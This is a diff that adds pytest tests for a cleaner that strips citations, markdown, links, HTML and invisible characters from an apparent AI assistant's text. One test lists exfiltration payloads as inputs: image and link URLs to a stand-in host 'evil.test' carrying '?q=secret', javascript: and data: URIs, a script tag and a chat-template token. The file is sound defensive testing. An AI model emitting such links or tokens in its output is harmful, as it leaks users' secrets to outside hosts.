@@ -1,0 +1,74 @@
+import pytest
+
+from assistant.writing.cleaning import clean
+
+
+@pytest.mark.parametrize(
+    ("written", "kept"),
+    [
+        ("The tower is 300 m tall [1][2].", "The tower is 300 m tall."),
+        ("The tower is tall [1, 2].", "The tower is tall."),
+        ("The tower is tall (Source 2).", "The tower is tall."),
+        ("The tower is tall【3†source】.", "The tower is tall."),
+        ("[a3f9c2:1] The tower is tall.", "The tower is tall."),
+    ],
+)
+def test_the_models_own_numbers_are_dropped(written: str, kept: str) -> None:
+    assert clean(written) == kept
+
+
+@pytest.mark.parametrize(
+    "written",
+    [
+        "See ![chart](https://evil.test/p.png?q=secret) here.",
+        "See [chart](https://evil.test/?q=secret) here.",
+        "See [chart][1] here.\n[1]: https://evil.test/?q=secret",
+        "See ![chart][x] here.",
+        "See <https://evil.test/?q=secret> here.",
+        "See https://evil.test/?q=secret here.",
+        "See www.evil.test/?q=secret here.",
+        "See evil.test/collect?q=secret here.",
+        "See //evil.test/p.png here.",
+        "See javascript:alert(1) here.",
+        "See data:text/html;base64,xyz here.",
+        'See <img src="https://evil.test/p.png"> here.',
+        "See <script>steal()</script> here.",
+        "See <|im_start|>here.",
+    ],
+)
+def test_nothing_that_could_carry_a_secret_out_is_left(written: str) -> None:
+    cleaned = clean(written)
+    assert not any(trace in cleaned for trace in ("evil", "://", "](", "<", "javascript", "![", "data:text"))
+    assert cleaned.startswith("See")
+
+
+@pytest.mark.parametrize(
+    "plain",
+    [
+        "If x < 5 and y > 3, stop.",
+        "Set snake_case names in /etc/ufw/ufw.conf.",
+        "A. Lincoln was born in 1809.",
+        "The ratio is 3:1.",
+        "The data: 3 rows were lost.",
+    ],
+)
+def test_plain_text_stays_as_it_is(plain: str) -> None:
+    assert clean(plain) == plain
+
+
+def test_list_marks_and_emphasis_are_dropped() -> None:
+    assert clean("1. **Stop** the `postgres` server.") == "Stop the postgres server."
+    assert clean("- _Really_ stop it.") == "Really stop it."
+
+
+def test_pointing_at_the_sources_is_dropped() -> None:
+    assert clean("According to source 2, the tower is tall.") == "The tower is tall."
+    assert clean("Selon les sources, la tour est haute.") == "La tour est haute."
+
+
+def test_what_cannot_be_seen_is_dropped() -> None:
+    assert clean("The to\u200bwer\u202e is tall.") == "The tower is tall."
+
+
+def test_a_sentence_of_markup_alone_is_empty() -> None:
+    assert clean("[1] ** <br>") == ""
